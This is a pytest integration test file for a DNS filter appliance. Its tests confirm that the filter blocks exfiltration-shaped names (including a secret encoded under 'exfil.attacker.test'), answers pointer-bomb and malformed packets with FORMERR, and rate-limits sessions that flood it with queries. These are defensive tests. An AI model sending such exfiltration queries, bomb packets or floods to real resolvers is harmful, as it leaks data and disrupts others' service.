"""The DNS filter, through real UDP and TCP sockets, in front of a logging fake upstream."""

from __future__ import annotations

import contextlib
import secrets
import socket
import struct

import pytest
from dnslib import QTYPE, RCODE, DNSRecord

from appliance.filter.dns.wire import pointer_bomb
from tests.integration.conftest import (
    ORIGIN,
    OUTSIDE_CLIENT,
    S1_CLIENT,
    S2_CLIENT,
    FilterProcess,
)


def ask(port, name, qtype="A", source=S1_CLIENT, tcp=False, raw: bytes | None = None):
    wire = raw if raw is not None else DNSRecord.question(name, qtype).pack()
    if tcp:
        with socket.create_connection(("127.0.0.1", port), timeout=5,
                                      source_address=(source, 0)) as sock:
            sock.sendall(struct.pack("!H", len(wire)) + wire)
            (n,) = struct.unpack("!H", sock.recv(2))
            data = b""
            while len(data) < n:
                chunk = sock.recv(n - len(data))
                assert chunk, "the filter closed in the middle of a DNS answer"
                data += chunk
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(5)
            sock.bind((source, 0))
            sock.sendto(wire, ("127.0.0.1", port))
            data, _ = sock.recvfrom(65535)
    return DNSRecord.parse(data) if raw is None else data


def addresses(reply):
    return sorted(str(rr.rdata) for rr in reply.rr if rr.rtype in (QTYPE.A, QTYPE.AAAA))


def test_allowed_name_is_forwarded_and_answered(corral_filter, internet):
    reply = ask(corral_filter.dns_port, "allowed.test")
    assert reply.header.rcode == RCODE.NOERROR
    assert addresses(reply) == [ORIGIN]
    assert ("udp", "allowed.test", "A") in internet.dns.queries


def test_allowed_name_answers_over_tcp_too(corral_filter):
    reply = ask(corral_filter.dns_port, "Allowed.TEST.", tcp=True)
    assert addresses(reply) == [ORIGIN]


def test_denied_name_gets_nxdomain_and_never_reaches_upstream(corral_filter, internet):
    secret = "c2vjcmv0lxrva2vu.exfil.attacker.test"
    reply = ask(corral_filter.dns_port, secret)
    assert reply.header.rcode == RCODE.NXDOMAIN
    reply = ask(corral_filter.dns_port, secret, "TXT", tcp=True)
    assert reply.header.rcode == RCODE.NXDOMAIN
    assert not any("attacker" in name for name in internet.dns.names_asked())
    event = corral_filter.wait_event(lambda e: e["name"] == secret)
    assert event["verdict"] == "deny" and event["kind"] == "dns" and event["session"] == "s1"
    assert event["hint"] == f"corral allow-dns {secret}"


def test_each_session_gets_only_its_own_names(corral_filter):
    assert ask(corral_filter.dns_port, "other.test").header.rcode == RCODE.NXDOMAIN
    assert addresses(ask(corral_filter.dns_port, "other.test", source=S2_CLIENT)) == [ORIGIN]
    assert ask(corral_filter.dns_port, "allowed.test", source=S2_CLIENT).header.rcode == (
        RCODE.NXDOMAIN)
    # Outside every session only the defaults and appliance layers apply: nothing here.
    assert ask(corral_filter.dns_port, "allowed.test", source=OUTSIDE_CLIENT).header.rcode == (
        RCODE.NXDOMAIN)


def test_wildcard_allows_subdomains_and_deny_wins_inside_it(corral_filter, internet):
    assert addresses(ask(corral_filter.dns_port, "x.wild.test")) == [ORIGIN]
    assert ask(corral_filter.dns_port, "no.wild.test").header.rcode == RCODE.NXDOMAIN
    assert ask(corral_filter.dns_port, "wild.test").header.rcode == RCODE.NXDOMAIN  # not apex
    assert "no.wild.test" not in internet.dns.names_asked()


def test_dns_only_rule_is_answered(corral_filter):
    assert addresses(ask(corral_filter.dns_port, "dnsonly.test")) == [ORIGIN]


def test_aaaa_is_handled_like_a_and_blocked_v6_is_removed(corral_filter):
    reply = ask(corral_filter.dns_port, "allowed.test", "AAAA")
    assert reply.header.rcode == RCODE.NOERROR
    assert addresses(reply) == []  # 2001:db8::/32 is a blocked range
    event = corral_filter.wait_event(
        lambda e: e["name"] == "allowed.test" and e.get("qtype") == "AAAA")
    assert any("2001:db8::1" in r for r in event["removed"])


def test_private_addresses_are_removed_from_answers(corral_filter):
    assert addresses(ask(corral_filter.dns_port, "private.test")) == []
    assert addresses(ask(corral_filter.dns_port, "mixed.test")) == [ORIGIN]


def test_a_rule_naming_a_private_address_does_not_put_it_in_answers(corral_filter):
    # the rule opens the literal 10.0.0.1 on port 443; a name resolving to it stays closed
    corral_filter.control({"op": "add", "session": "s1", "kind": "http", "rule": "10.0.0.1:443"})
    try:
        assert addresses(ask(corral_filter.dns_port, "private.test", tcp=True)) == []
        event = corral_filter.wait_event(lambda e: e["name"] == "private.test" and any(
            "10.0.0.1 is in blocked range 10.0.0.0/8 (private.test resolved to it)" in r
            for r in e.get("removed", [])))
        assert event["verdict"] == "allow" and event["answers"] == []
    finally:
        corral_filter.control({"op": "remove", "session": "s1", "kind": "http",
                               "rule": "10.0.0.1:443"})


def test_cname_chain_is_answered(corral_filter):
    reply = ask(corral_filter.dns_port, "cname.test")
    assert addresses(reply) == [ORIGIN]


def test_upstream_failure_is_servfail_not_nxdomain(corral_filter, internet):
    internet.dns.zone["broken.wild.test"] = []
    internet.dns.servfail.add("broken.wild.test")
    assert ask(corral_filter.dns_port, "broken.wild.test").header.rcode == RCODE.SERVFAIL
    internet.dns.silent.add("slow.wild.test")
    assert ask(corral_filter.dns_port, "slow.wild.test").header.rcode == RCODE.SERVFAIL


def test_truncated_upstream_answer_is_retried_over_tcp(corral_filter, internet):
    internet.dns.zone["big.wild.test"] = [("A", ORIGIN, 300)]
    internet.dns.truncate.add("big.wild.test")
    assert addresses(ask(corral_filter.dns_port, "big.wild.test")) == [ORIGIN]
    assert ("tcp", "big.wild.test", "A") in internet.dns.queries


def test_answers_are_cached(corral_filter, internet):
    internet.dns.zone["cached.wild.test"] = [("A", ORIGIN, 300)]
    seen = len(internet.dns.queries)  # the fake server is shared with the other loop's run
    for _ in range(3):
        assert addresses(ask(corral_filter.dns_port, "cached.wild.test")) == [ORIGIN]
    asked = [q for q in internet.dns.queries[seen:] if q[1] == "cached.wild.test"]
    assert len(asked) == 1


def test_hot_answers_are_reused_as_bytes_with_their_own_id_ttl_and_event(corral_filter,
                                                                         internet):
    import time

    internet.dns.zone["hot.wild.test"] = [("A", ORIGIN, 300)]
    query = DNSRecord.question("hot.wild.test")
    query.header.id = 1111
    first = ask(corral_filter.dns_port, "", raw=query.pack())
    hits = corral_filter.control({"op": "status"})["dns"]["wire_cache_hits"]
    query.header.id = 2222
    time.sleep(1.1)  # the second answer's TTL must have gone down
    second = ask(corral_filter.dns_port, "", raw=query.pack(), source=S1_CLIENT)
    a, b = DNSRecord.parse(first), DNSRecord.parse(second)
    assert (a.header.id, b.header.id) == (1111, 2222)
    assert addresses(a) == addresses(b) == [ORIGIN]
    assert b.rr[0].ttl < a.rr[0].ttl
    assert corral_filter.control({"op": "status"})["dns"]["wire_cache_hits"] == hits + 1
    assert a.questions == b.questions and a.header.rcode == b.header.rcode
    events = [e for e in corral_filter.events() if e["name"] == "hot.wild.test"]
    assert len(events) == 2 and len({e["id"] for e in events}) == 2  # every answer recorded
    assert events[0]["verdict"] == events[1]["verdict"] == "allow"


def test_a_policy_change_is_never_hidden_by_a_cached_answer(corral_filter, internet):
    name = "later-allowed.test"
    internet.dns.zone[name] = [("A", ORIGIN, 300)]
    assert ask(corral_filter.dns_port, name).header.rcode == RCODE.NXDOMAIN  # cached denial
    cached = corral_filter.control({"op": "status"})["dns"]["wire_cache_entries"]
    corral_filter.control({"op": "add", "session": "s1", "kind": "dns", "rule": name})
    try:
        assert addresses(ask(corral_filter.dns_port, name)) == [ORIGIN]
        # s1's answers under its old policy are gone (they would pin the old Policy)
        assert corral_filter.control({"op": "status"})["dns"]["wire_cache_entries"] <= cached
    finally:
        corral_filter.control({"op": "remove", "session": "s1", "kind": "dns", "rule": name})
    assert ask(corral_filter.dns_port, name).header.rcode == RCODE.NXDOMAIN  # and back
    assert ask(corral_filter.dns_port, name, source=S2_CLIENT).header.rcode == RCODE.NXDOMAIN


def test_host_corral_resolves_to_the_gateway_only_with_host_ports(corral_filter):
    assert addresses(ask(corral_filter.dns_port, "host.corral")) == [ORIGIN]
    assert ask(corral_filter.dns_port, "host.corral", source=S2_CLIENT).header.rcode == (
        RCODE.NXDOMAIN)


def test_malformed_queries_are_answered_and_server_keeps_serving(corral_filter):
    port = corral_filter.dns_port
    garbage = b"\x12\x34" + b"\x01\x00" + b"\x00\x01\x00\x00\x00\x00\x00\x00" + b"\xff" * 20
    reply = ask(port, "", raw=garbage)
    assert reply[:2] == b"\x12\x34" and reply[3] & 0x0F == RCODE.FORMERR
    two_questions = DNSRecord.question("allowed.test")
    two_questions.add_question(*DNSRecord.question("other.test").questions)
    reply = DNSRecord.parse(ask(port, "", raw=two_questions.pack()))
    assert reply.header.rcode == RCODE.FORMERR
    any_query = DNSRecord.question("allowed.test", "ANY").pack()
    assert DNSRecord.parse(ask(port, "", raw=any_query)).header.rcode == RCODE.REFUSED
    https_rr = DNSRecord.question("allowed.test", "HTTPS").pack()
    reply = DNSRecord.parse(ask(port, "", raw=https_rr))
    assert reply.header.rcode == RCODE.NOERROR and not reply.rr
    # A too-short packet gets no answer (nothing to answer to) but breaks nothing.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"\x00\x01", ("127.0.0.1", port))
    assert addresses(ask(port, "allowed.test")) == [ORIGIN]


def test_tcp_garbage_and_idle_connections_do_not_block_others(corral_filter):
    idle = socket.create_connection(("127.0.0.1", corral_filter.dns_port), timeout=5)
    idle.sendall(b"\x00")  # half a length prefix, then nothing
    assert addresses(ask(corral_filter.dns_port, "allowed.test", tcp=True)) == [ORIGIN]
    idle.close()


# -- no packet freezes the loop (issue 14, B8) -------------------------------------------


def framed(wire: bytes) -> bytes:
    return struct.pack("!H", len(wire)) + wire


def read_framed(sock: socket.socket) -> bytes:
    head = b""
    while len(head) < 2:
        chunk = sock.recv(2 - len(head))
        if not chunk:
            raise ConnectionError("closed")
        head += chunk
    (n,) = struct.unpack("!H", head)
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:  # as for the head: an end, never a spin for ever on it
            raise ConnectionError("closed")
        data += chunk
    return data


@pytest.mark.parametrize("layout", ["questions", "records"])
def test_the_worst_packets_get_formerr_and_the_query_after_them_is_answered(corral_filter,
                                                                              layout):
    # 60 KB of pointer chains: dnslib spent over 30 s on one; the 5 s timeouts below would
    # expire long before the answer to the ordinary query behind it came
    bomb = pointer_bomb(size=60_000, layout=layout, qid=0x5151)
    ordinary = DNSRecord.question("allowed.test")
    ordinary.header.id = 0x5252
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.bind((S1_CLIENT, 0))
        sock.sendto(bomb, ("127.0.0.1", corral_filter.dns_port))
        sock.sendto(ordinary.pack(), ("127.0.0.1", corral_filter.dns_port))
        first, second = sock.recvfrom(65535)[0], sock.recvfrom(65535)[0]
    assert first[:2] == b"\x51\x51" and first[3] & 0x0F == RCODE.FORMERR
    reply = DNSRecord.parse(second)
    assert reply.header.id == 0x5252 and addresses(reply) == [ORIGIN]
    with socket.create_connection(("127.0.0.1", corral_filter.dns_port), timeout=5,
                                  source_address=(S1_CLIENT, 0)) as sock:
        sock.sendall(framed(bomb) + framed(ordinary.pack()))
        first, second = read_framed(sock), read_framed(sock)
    assert first[:2] == b"\x51\x51" and first[3] & 0x0F == RCODE.FORMERR
    assert addresses(DNSRecord.parse(second)) == [ORIGIN]
    event = corral_filter.wait_event(
        lambda e: e["reason"] == f"malformed query: query of {len(bomb)} bytes; a query fits "
                                 "in 1232")
    assert event["session"] == "s1" and event["verdict"] == "error"


def test_a_wildcard_name_shaped_for_exfiltration_never_leaves(corral_filter, internet):
    name = ".".join(["a" * 63, "b" * 63, "c"]) + ".wild.test"
    assert ask(corral_filter.dns_port, name).header.rcode == RCODE.NXDOMAIN
    assert name not in internet.dns.names_asked()
    event = corral_filter.wait_event(lambda e: e["name"] == name)
    assert event["reason"] == ("looks like DNS exfiltration: 129 characters chosen under "
                               "*.wild.test (at most 128)")
    assert event["verdict"] == "deny" and event["rule"] == "*.wild.test"
    status = corral_filter.control({"op": "status"})["dns"]
    assert status["sessions"]["s1"]["exfil_denied"] >= 1


# -- one session cannot starve another (issue 14, B11) -----------------------------------

LIMITS = """
rate = 10
burst = 100
max_pending = 4
max_tcp = 3
cache_share = 50
exfil_names = 5
"""


@pytest.fixture
def limited(internet, tmp_path):
    """A filter with small per-session limits, fresh for each test (its counters too)."""
    process = FilterProcess(tmp_path, internet.dns.address, dns_extra=LIMITS)
    yield process
    process.stop()


def flood(port: int, names: list[str], source: str) -> list[bytes]:
    """Send every query at once from one socket, then read the replies that come."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
        sock.settimeout(2)
        sock.bind((source, 0))
        for i, name in enumerate(names):
            query = DNSRecord.question(name)
            query.header.id = i
            sock.sendto(query.pack(), ("127.0.0.1", port))
        replies = []
        with contextlib.suppress(TimeoutError):
            while len(replies) < len(names):
                replies.append(sock.recvfrom(65535)[0])
    return replies


def s1_counts(process) -> dict:
    return process.control({"op": "status"})["dns"]["sessions"]["s1"]


def test_a_session_flooding_random_names_only_spends_its_own_share(limited, internet):
    port = limited.dns_port
    internet.dns.zone["kept.wild.test"] = [("A", ORIGIN, 300)]
    assert addresses(ask(port, "kept.wild.test")) == [ORIGIN]  # s1: cached now
    before = s1_counts(limited)
    asked = [q for q in internet.dns.queries if q[1] == "kept.wild.test"]

    replies = flood(port, [f"{i:x}-{secrets.token_hex(8)}.flood.test" for i in range(600)],
                    S2_CLIENT)
    codes = [reply[3] & 0x0F for reply in replies]
    assert codes.count(RCODE.REFUSED) >= 1 and set(codes) <= {RCODE.REFUSED, RCODE.NXDOMAIN}
    refused = [DNSRecord.parse(r) for r in replies if r[3] & 0x0F == RCODE.REFUSED]
    assert all(str(r.q.qname).startswith(f"{r.header.id:x}-") for r in refused)  # echoed

    status = limited.control({"op": "status"})["dns"]
    s2 = status["sessions"]["s2"]
    assert s2["rate_limited"] >= 1 and s2["wire_cache_entries"] <= 50
    assert s1_counts(limited)["rate_limited"] == 0
    assert s1_counts(limited)["wire_cache_entries"] == before["wire_cache_entries"]
    report = limited.wait_event(lambda e: e.get("limit") == "rate")
    assert report["session"] == "s2" and report["verdict"] == "deny" and report["refused"] >= 1
    assert "DNS rate limit: more than 10 queries a second (burst 100)" in report["reason"]

    # s1: its cached answer is still a hit (the upstream is not asked again) ...
    hits = status["wire_cache_hits"]
    assert addresses(ask(port, "kept.wild.test")) == [ORIGIN]
    assert limited.control({"op": "status"})["dns"]["wire_cache_hits"] == hits + 1
    assert [q for q in internet.dns.queries if q[1] == "kept.wild.test"] == asked
    # ... and a name it never asked is answered from the upstream
    assert addresses(ask(port, "dnsonly.test")) == [ORIGIN]
    assert ask(port, "other.test").header.rcode == RCODE.NXDOMAIN  # and judged as ever


def test_a_session_waiting_on_a_silent_upstream_holds_its_own_places_only(limited, internet):
    limited.control({"op": "add", "session": "s2", "kind": "dns", "rule": "*.slow.test"})
    names = [f"n{i}.slow.test" for i in range(8)]
    internet.dns.silent.update(names)
    replies = flood(limited.dns_port, names, S2_CLIENT)
    codes = [reply[3] & 0x0F for reply in replies]
    # four wait for the upstream (SERVFAIL when it times out); the rest are refused at once,
    # so they come first
    assert codes == [RCODE.REFUSED] * 4 + [RCODE.SERVFAIL] * 4
    assert limited.control({"op": "status"})["dns"]["sessions"]["s2"]["pending_refused"] == 4
    assert limited.wait_event(lambda e: e.get("limit") == "pending")["session"] == "s2"
    assert addresses(ask(limited.dns_port, "allowed.test")) == [ORIGIN]  # s1 unaffected


def test_a_session_at_its_dns_tcp_cap_gets_no_more_connections_and_others_do(limited):
    port = limited.dns_port
    held = []
    for _ in range(3):
        sock = socket.create_connection(("127.0.0.1", port), timeout=5,
                                        source_address=(S2_CLIENT, 0))
        sock.sendall(framed(DNSRecord.question("other.test").pack()))
        assert addresses(DNSRecord.parse(read_framed(sock))) == [ORIGIN]  # admitted
        held.append(sock)
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5,
                                      source_address=(S2_CLIENT, 0)) as extra:
            extra.sendall(framed(DNSRecord.question("other.test").pack()))
            with pytest.raises((ConnectionError, OSError)):
                read_framed(extra)  # closed without an answer
        assert addresses(ask(port, "allowed.test", tcp=True)) == [ORIGIN]  # s1 is served
        held.pop().close()
        assert addresses(ask(port, "other.test", tcp=True, source=S2_CLIENT)) == [ORIGIN]
    finally:
        for sock in held:
            sock.close()
    assert limited.control({"op": "status"})["dns"]["sessions"]["s2"]["tcp_refused"] == 1
    event = limited.wait_event(lambda e: e.get("limit") == "tcp")
    assert event["session"] == "s2" and "more than 3 DNS-over-TCP connections" in event["reason"]


def test_distinct_names_under_a_wildcard_are_limited_per_minute(limited, internet):
    names = [f"d{i}.wild.test" for i in range(6)]
    for name in names:
        internet.dns.zone[name] = [("A", ORIGIN, 300)]
    answered = [ask(limited.dns_port, name) for name in names]
    assert [addresses(r) for r in answered[:5]] == [[ORIGIN]] * 5
    assert answered[5].header.rcode == RCODE.NXDOMAIN
    assert "d5.wild.test" not in internet.dns.names_asked()
    event = limited.wait_event(lambda e: e["name"] == "d5.wild.test")
    assert event["reason"] == ("looks like DNS exfiltration: more than 5 distinct names "
                               "under *.wild.test in a minute from this session")
    assert addresses(ask(limited.dns_port, "d0.wild.test")) == [ORIGIN]  # asked before
